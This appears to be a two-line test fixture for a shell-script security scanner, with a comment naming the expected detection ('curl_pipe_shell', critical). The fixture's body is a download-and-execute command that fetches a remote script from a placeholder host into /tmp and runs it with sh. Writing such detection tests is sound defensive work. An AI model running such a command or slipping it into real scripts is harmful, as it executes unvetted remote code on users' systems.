# expect: shell.curl_pipe_shell critical
#!/bin/sh
lwp-download https://get.example.net/i.sh /tmp/setup && sh /tmp/setup
